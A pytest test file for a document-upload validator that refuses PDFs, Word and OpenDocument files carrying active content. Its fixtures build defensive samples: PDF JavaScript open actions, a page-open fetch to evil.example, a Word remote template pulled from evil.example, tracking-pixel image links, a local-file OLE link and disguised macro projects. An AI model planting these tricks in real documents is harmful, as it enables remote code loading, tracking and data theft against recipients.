"""Documents that would act by themselves are refused wherever the active part hides: compressed in an
object stream, renamed, declared under another content type or fetched from elsewhere. Ordinary links
a reader clicks stay allowed. (Every "refused" case below was accepted by the byte search this replaces.)"""

import io

import pikepdf
import pytest
from django.core.exceptions import ValidationError

from tests.uploads.samples import REL, WORD_MAIN, content_types, docx_bytes, odt_bytes, pdf_bytes
from uploads import DOCUMENTS, inspect_file

OLE_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # the header of any compound file


def code_of(content, name):
    try:
        inspect_file(io.BytesIO(content), allowed=DOCUMENTS, declared_name=name, max_bytes=10**7)
    except ValidationError as error:
        return error.code
    return "accepted"


def action(kind, **entries):
    return pikepdf.Dictionary(S=pikepdf.Name(kind), **entries)


def compressed_pdf(catalog):
    pdf = pdf_bytes(catalog=catalog, object_streams=True)
    assert b"/Catalog" not in pdf and b"/JavaScript" not in pdf  # nothing for a byte search to find
    return pdf


def widget_submitting_the_form(pdf):
    widget = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            Rect=[0, 0, 10, 10],
            A=action("/SubmitForm", F="https://example.org/collect"),
        )
    )
    pdf.pages[0].Annots = pdf.make_indirect([widget])
    return {"/AcroForm": pikepdf.Dictionary(Fields=[widget])}


def link_to(uri):
    def add(pdf):
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action("/URI", URI=uri)
        )
        pdf.pages[0].Annots = pdf.make_indirect([pdf.make_indirect(link)])
        return {}

    return add


@pytest.mark.parametrize(
    "catalog",
    [
        pytest.param(
            lambda pdf: {
                "/OpenAction": pdf.make_indirect(action("/JavaScript", JS=pdf.make_stream(b"app.alert(1)")))
            },
            id="open-action-javascript-in-object-stream",
        ),
        pytest.param(
            lambda pdf: {
                "/OpenAction": pdf.make_indirect(
                    action("/GoTo", D=[0, "/Fit"], Next=action("/JavaScript", JS="x"))
                )
            },
            id="javascript-chained-after-an-innocent-action",
        ),
        pytest.param(
            lambda pdf: {
                "/AA": pikepdf.Dictionary(O=pdf.make_indirect(action("/URI", URI="https://evil.example/")))
            },
            id="page-open-fetches-a-uri",
        ),
        pytest.param(
            lambda pdf: {
                "/OpenAction": pdf.make_indirect(action("/GoToR", F="\\\\evil\\share\\x.pdf", D=[0]))
            },
            id="open-action-opens-a-remote-file",
        ),
        pytest.param(
            lambda pdf: {
                "/OpenAction": pdf.make_indirect(action("/GoToE", T=pikepdf.Dictionary(R="/C", N="a")))
            },
            id="open-action-opens-an-embedded-file",
        ),
        pytest.param(
            lambda pdf: {
                "/AcroForm": pdf.make_indirect(pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp/>")))
            },
            id="xfa-form",
        ),
        pytest.param(
            lambda pdf: {
                "/Names": pdf.make_indirect(pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=[])))
            },
            id="embedded-files",
        ),
        pytest.param(widget_submitting_the_form, id="submit-form"),
        pytest.param(
            lambda pdf: {"/OpenAction": pdf.make_indirect(action("/ImportData", F="data.fdf"))},
            id="import-data",
        ),
    ],
)
def test_pdf_active_content_hidden_in_compressed_object_streams_is_refused(catalog):
    assert code_of(compressed_pdf(catalog), "form.pdf") == "active_content"


def test_rich_media_annotation_is_refused():
    def rich_media(pdf):
        annotation = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 1, 1]
        )
        pdf.pages[0].Annots = pdf.make_indirect([pdf.make_indirect(annotation)])
        return {}

    assert code_of(pdf_bytes(catalog=rich_media, object_streams=True), "form.pdf") == "active_content"


def test_pdf_links_a_reader_clicks_are_accepted():
    assert (
        code_of(pdf_bytes(catalog=link_to("https://www.presidence.gov.bi/"), object_streams=True), "a.pdf")
        == "accepted"
    )


def test_pdf_opening_at_a_page_is_accepted():
    opening = lambda pdf: {"/OpenAction": [pdf.pages[0].obj, pikepdf.Name.Fit]}  # noqa: E731
    assert code_of(pdf_bytes(catalog=opening), "form.pdf") == "accepted"


def test_pdf_locked_with_a_password_is_refused_as_unreadable():
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_bytes())) as pdf:
        pdf.save(buffer, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    assert code_of(buffer.getvalue(), "form.pdf") == "unreadable"


VBA_CT = "application/vnd.ms-office.vbaProject"
ACTIVEX_CT = "application/vnd.ms-office.activeX+xml"


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(
            docx_bytes(
                parts=[("word/media/image1.png", OLE_FILE)],
                types=content_types(defaults=[("png", "image/png")]),
                document_rels=[
                    (
                        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                        "media/image1.png",
                        False,
                    )
                ],
            ),
            id="vba-project-renamed-as-a-picture",
        ),
        pytest.param(
            docx_bytes(
                parts=[("word/extra/data.xml", b"<x/>")],
                types=content_types(("/word/extra/data.xml", VBA_CT)),
            ),
            id="vba-project-declared-by-content-type-under-another-name",
        ),
        pytest.param(
            docx_bytes(
                parts=[
                    (
                        "word/parts/c1.xml",
                        b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>",
                    )
                ],
                types=content_types(("/word/parts/c1.xml", ACTIVEX_CT)),
            ),
            id="activex-control-under-another-name",
        ),
        pytest.param(
            docx_bytes(parts=[("word/media/object.dat", OLE_FILE)]),
            id="ole-object-with-no-declared-type",
        ),
        pytest.param(
            docx_bytes(
                parts=[
                    (
                        "word/_rels/settings.xml.rels",
                        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                        f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
                        'Target="http://evil.example/template.dotm" TargetMode="External"/></Relationships>',
                    ),
                    (
                        "word/settings.xml",
                        "<w:settings xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'/>",
                    ),
                ]
            ),
            id="remote-template",
        ),
        pytest.param(
            docx_bytes(document_rels=[(f"{REL}/oleObject", "file:///C:/secret.xlsx", True)]),
            id="linked-ole-object",
        ),
        pytest.param(
            docx_bytes(document_rels=[(f"{REL}/image", "http://evil.example/pixel.png", True)]),
            id="linked-picture-fetched-on-opening",
        ),
        pytest.param(
            docx_bytes(document_rels=[(f"{REL}/hyperlink", "file://evil/share", True)]),
            id="hyperlink-to-a-network-share",
        ),
        pytest.param(
            docx_bytes(
                types=content_types().replace(
                    WORD_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml"
                )
            ),
            id="macro-enabled-document-named-docx",
        ),
    ],
)
def test_word_documents_with_macros_controls_objects_or_external_parts_are_refused(document):
    assert code_of(document, "form.docx") == "active_content"


def test_word_document_with_a_web_link_is_accepted():
    document = docx_bytes(document_rels=[(f"{REL}/hyperlink", "https://www.presidence.gov.bi/", True)])
    assert code_of(document, "form.docx") == "accepted"


def test_a_zip_that_is_not_a_word_document_by_its_declarations_is_not_taken_for_one():
    names_only = docx_bytes(
        types='<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    )
    assert code_of(names_only, "form.docx") == "unsupported_format"


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(
            odt_bytes(
                body='<draw:frame><draw:object xlink:href="./Embedded"/></draw:frame>',
                manifest_entries=[("Embedded/", "application/vnd.oasis.opendocument.formula")],
                parts=[("Embedded/content.xml", "<math/>")],
            ),
            id="embedded-object-under-any-name",
        ),
        pytest.param(
            odt_bytes(
                manifest_entries=[("Stuff", "application/vnd.sun.star.oleobject")],
                parts=[("Stuff", OLE_FILE)],
            ),
            id="ole-object",
        ),
        pytest.param(
            odt_bytes(
                body='<text:p><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></text:p>'
            ),
            id="macro-run-on-an-event",
        ),
        pytest.param(
            odt_bytes(
                body='<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main">Click</text:a></text:p>'
            ),
            id="link-that-runs-a-macro",
        ),
        pytest.param(
            odt_bytes(
                body='<text:section text:name="s"><text:section-source xlink:href="http://evil.example/x.odt"/></text:section>'
            ),
            id="section-linked-to-a-remote-file",
        ),
        pytest.param(
            odt_bytes(
                body='<draw:frame><draw:image xlink:href="http://evil.example/pixel.png"/></draw:frame>'
            ),
            id="picture-fetched-on-opening",
        ),
        pytest.param(
            odt_bytes(parts=[("Basic/Standard/Module1.xml", "<script:module/>")]), id="basic-macro-library"
        ),
    ],
)
def test_opendocument_texts_with_objects_macros_or_remote_parts_are_refused(document):
    assert code_of(document, "form.odt") == "active_content"


def test_opendocument_text_with_a_web_link_and_a_picture_is_accepted():
    document = odt_bytes(
        body='<text:p><text:a xlink:href="https://www.presidence.gov.bi/">Presidence</text:a></text:p>'
        '<draw:frame><draw:image xlink:href="Pictures/logo.png"/></draw:frame>',
        manifest_entries=[("Pictures/logo.png", "image/png")],
        parts=[("Pictures/logo.png", b"\x89PNG\r\n\x1a\n")],
    )
    assert code_of(document, "form.odt") == "accepted"
